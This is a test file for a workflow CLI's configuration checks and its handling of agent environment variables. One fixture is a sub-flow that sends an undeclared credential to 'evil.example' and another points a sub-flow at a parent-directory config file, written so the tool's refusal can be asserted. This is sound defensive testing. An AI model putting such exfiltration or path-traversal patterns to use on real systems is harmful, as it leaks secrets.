/**
 * What a configuration declares, checked through the real CLI: `gantry validate --config`
 * (issue 19 item 8), `gantry run` and `gantry serve` at start, before anything runs; and what a
 * `command` agent's program gets in its environment (issue 15 items 3, 4).
 */
import { spawnSync } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';

const ROOT = resolve(import.meta.dirname, '..');
const BIN = join(ROOT, 'packages/cli/dist/bin.js');
const CANARY = 'canary-c0ffee-aws-secret';
const dirs: string[] = [];
afterAll(() => {
  for (const dir of dirs) rmSync(dir, { recursive: true, force: true });
});

function workspace(files: Record<string, unknown>): string {
  const dir = mkdtempSync(join(tmpdir(), 'gantry-config-checks-'));
  dirs.push(dir);
  for (const [name, content] of Object.entries(files)) {
    mkdirSync(join(dir, name, '..'), { recursive: true });
    writeFileSync(join(dir, name), typeof content === 'string' ? content : JSON.stringify(content, null, 2));
  }
  return dir;
}

function gantry(args: string[], cwd: string, env: Record<string, string> = {}) {
  const r = spawnSync(process.execPath, [BIN, ...args], { cwd, encoding: 'utf8', env: { ...process.env, NO_COLOR: '1', ...env }, timeout: 30_000 });
  return { code: r.status, stdout: r.stdout, stderr: r.stderr };
}

const CONFIG = {
  agents: {
    'senior-backend-developer': { transport: 'module', module: './reviewer.mjs' },
    scanner: { transport: 'command', command: process.execPath, args: ['./scan.mjs'], env: ['SCAN_RULES'], authentication: 'scan_token' },
  },
  credentials: {
    scan_token: { env: 'SCAN_TOKEN' },
    deploy_api: { env: 'DEPLOY_API', origins: ['https://deploy.example.com'] },
    github_webhook_secret: { env: 'GITHUB_WEBHOOK_SECRET' },
  },
};
const REVIEWER = 'export default async () => ({ score: 9 });\n';
// Prints the names of the variables it was given, and the values of two.
const SCAN = `process.stdin.resume(); process.stdin.on('end', () => console.log(JSON.stringify({ names: Object.keys(process.env).sort(), rules: process.env.SCAN_RULES ?? null, token: process.env.SCAN_TOKEN ?? null })));\n`;

describe('gantry validate --config', () => {
  it('catches a misspelled agent, function, service and credential with "did you mean", and says the configuration is valid', () => {
    const dir = workspace({
      'gantry.config.json': CONFIG,
      'flows/review.json': {
        name: 'review',
        nodes: [
          { id: 'hook', type: 'webhook', data: { endpoint: '/review', authentication: 'github_webhook_secret' } },
          { id: 'review', type: 'agent', data: { agent: 'senior-backend-developr', task: 'code_review' } },
          { id: 'files', type: 'function', data: { function: 'analyse_changed_files' } },
          { id: 'post', type: 'external_api', data: { service: 'githb', action: 'create_comment' } },
          { id: 'deploy', type: 'external_api', data: { service: 'http', action: 'post', url: 'https://deploy.example.com/x', authentication: 'deploy_ap' } },
        ],
        edges: [{ from: 'hook', to: 'review' }, { from: 'review', to: 'files' }, { from: 'files', to: 'post' }, { from: 'post', to: 'deploy' }],
      },
    });
    const without = gantry(['validate', 'flows/review.json'], dir);
    expect(without.code).toBe(0);
    const r = gantry(['validate', '--config', 'gantry.config.json', 'flows/'], dir);
    expect(r.code).toBe(2);
    expect(r.stdout).toContain('✓ gantry.config.json  valid (configuration)');
    expect(r.stdout).toMatch(/flows\/review\.json:\d+:\d+ error UNKNOWN_AGENT .*"senior-backend-developr" — did you mean "senior-backend-developer"\?/);
    expect(r.stdout).toMatch(/UNKNOWN_FUNCTION .*did you mean "analyze_changed_files"\?/);
    expect(r.stdout).toMatch(/UNKNOWN_SERVICE .*did you mean "github"\?/);
    expect(r.stdout).toMatch(/CREDENTIAL_UNDECLARED .*"deploy_ap".* — did you mean "deploy_api"\?/);
    expect(r.stdout).toContain('2 files: 1 valid, 1 invalid');
  });

  it('reports the configuration\'s own problems at their line and column', () => {
    const dir = workspace({
      'gantry.config.json': { agents: { r: { transport: 'http', url: 'https://agents.example.com', authentication: 'agents_tokn' } }, credentials: { agents_token: { env: 'AGENTS_TOKEN' } } },
      'flow.json': { name: 'f', nodes: [{ id: 'w', type: 'wait', data: { seconds: 0 } }] },
    });
    const r = gantry(['validate', '--config', 'gantry.config.json', 'flow.json', '--json'], dir);
    expect(r.code).toBe(2);
    const report = JSON.parse(r.stdout) as { files: { file: string; ok: boolean; diagnostics: { code: string; pointer: string; line: number }[] }[] };
    expect(report.files[0]).toMatchObject({ file: 'gantry.config.json', ok: false, diagnostics: [{ code: 'CREDENTIAL_UNDECLARED', pointer: '/agents/r/authentication', line: 6 }] });
    expect(report.files[1]).toMatchObject({ file: 'flow.json', ok: true });
  });

  it('suggests the key for a typo of two letters swapped, and names a trailing comma where it is', () => {
    const swapped = gantry(['runs'], workspace({ 'gantry.config.json': { server: { prot: 8080 } } }));
    expect(swapped.code).toBe(2);
    expect(swapped.stderr).toContain('gantry.config.json:3:5 UNKNOWN_KEY server: unknown key "prot" — did you mean "port"?');
    const comma = gantry(['runs'], workspace({ 'gantry.config.json': '{\n  "server": { "port": 8080, }\n}\n' }));
    expect(comma.code).toBe(2);
    expect(comma.stderr).toContain('gantry.config.json:2:27 JSON_SYNTAX trailing comma: JSON allows none after the last property of an object (remove it)');
  });
});

describe('gantry validate on a file with many problems', () => {
  it('prints the first hundred with their source line, then how many more; --json lists the first thousand and counts them all', () => {
    const nodes = Array.from({ length: 1200 }, (_, i) => ({ id: `n${i}`, type: 'wait', data: { seconds: 0 }, timout: 1 }));
    const dir = workspace({ 'many.json': { name: 'many', nodes } });
    const r = gantry(['validate', 'many.json'], dir);
    expect(r.code).toBe(2);
    expect(r.stdout.match(/ error UNKNOWN_KEY /g)).toHaveLength(100);
    expect(r.stdout).toContain('… and 1100 more (--json lists the first 1000)');
    expect(r.stdout).toContain('✗ many.json  1200 errors');
    const report = JSON.parse(gantry(['validate', '--json', 'many.json'], dir).stdout) as { files: { counts: object; diagnostics: unknown[] }[] };
    expect(report.files[0]!.counts).toEqual({ errors: 1200, warnings: 0 });
    expect(report.files[0]!.diagnostics).toHaveLength(1000);
  });
});

describe('gantry run and serve check the flows against the configuration before anything runs', () => {
  it('gantry run refuses a sub-flow naming an undeclared credential: exit 2, and no run stored', () => {
    const dir = workspace({
      'gantry.config.json': CONFIG,
      'reviewer.mjs': REVIEWER,
      'main.json': { name: 'main', nodes: [{ id: 'phase', type: 'subflow', data: { flow: 'phases/notify.json' } }] },
      'phases/notify.json': { name: 'notify', nodes: [{ id: 'x', type: 'external_api', data: { service: 'http', action: 'post', url: 'https://evil.example/x', authentication: 'ops_api_token' } }] },
    });
    const r = gantry(['run', 'main.json'], dir, { OPS_API_TOKEN: CANARY });
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/notify\.json:\d+:\d+ CREDENTIAL_UNDECLARED node "x" \(external_api\), data\.authentication: .*"ops_api_token"/);
    expect(gantry(['runs', '--all', '--json'], dir).stdout.trim()).toBe('[]');
    expect(r.stdout + r.stderr).not.toContain(CANARY);
  });

  it('gantry serve refuses to start with a flow naming an undeclared credential or a sub-flow outside its folder', () => {
    const dir = workspace({
      'gantry.config.json': CONFIG,
      'reviewer.mjs': REVIEWER,
      'flows/hook.json': {
        name: 'hook',
        nodes: [
          { id: 'hook', type: 'webhook', data: { endpoint: '/hook', authentication: 'deploy_hook_secret' } },
          { id: 'next', type: 'subflow', data: { flow: '../gantry.config.json' } },
        ],
        edges: [{ from: 'hook', to: 'next' }],
      },
    });
    const r = gantry(['serve', '--port', '0'], dir, { DEPLOY_HOOK_SECRET: 's' });
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/hook\.json:\d+:\d+ CREDENTIAL_UNDECLARED node "hook" \(webhook\)/);
    expect(r.stderr).toMatch(/hook\.json:\d+:\d+ FLOW_REF_OUTSIDE node "next" \(subflow\)/);
    expect(r.stdout).not.toContain('listening');
  });
});

describe('a command agent\'s environment', () => {
  it('is the minimal one, its env list and its own credential: never Gantry\'s other variables', () => {
    const dir = workspace({
      'gantry.config.json': CONFIG,
      'reviewer.mjs': REVIEWER,
      'scan.mjs': SCAN,
      'flow.json': { name: 'scan', nodes: [{ id: 'scan', type: 'agent', data: { agent: 'scanner', task: 'scan' } }] },
    });
    const env = { SCAN_RULES: 'strict', SCAN_TOKEN: 'scan-secret-5150', DEPLOY_API: CANARY, AWS_SECRET_ACCESS_KEY: CANARY, OTHER_SERVICE_TOKEN: CANARY, LANG: 'C.UTF-8' };
    const r = gantry(['run', 'flow.json', '--json'], dir, env);
    expect(r.code, r.stderr).toBe(0);
    const output = r.stdout
      .split('\n')
      .filter((line) => line.includes('"node.succeeded"'))
      .map((line) => (JSON.parse(line) as { output: { names: string[]; rules: string; token: string } }).output)[0]!;
    expect(output.rules).toBe('strict');
    expect(output.token).toBe('[REDACTED]');
    expect(output.names).toContain('PATH');
    expect(output.names).toContain('LANG');
    for (const name of ['AWS_SECRET_ACCESS_KEY', 'OTHER_SERVICE_TOKEN', 'DEPLOY_API', 'NO_COLOR']) expect(output.names).not.toContain(name);
    const show = gantry(['show', '--json', JSON.parse(r.stdout.split('\n')[0]!).runId as string], dir);
    expect(r.stdout + r.stderr + show.stdout).not.toContain(CANARY);
    expect(existsSync(join(dir, '.gantry', 'gantry.db'))).toBe(true);
  });
});
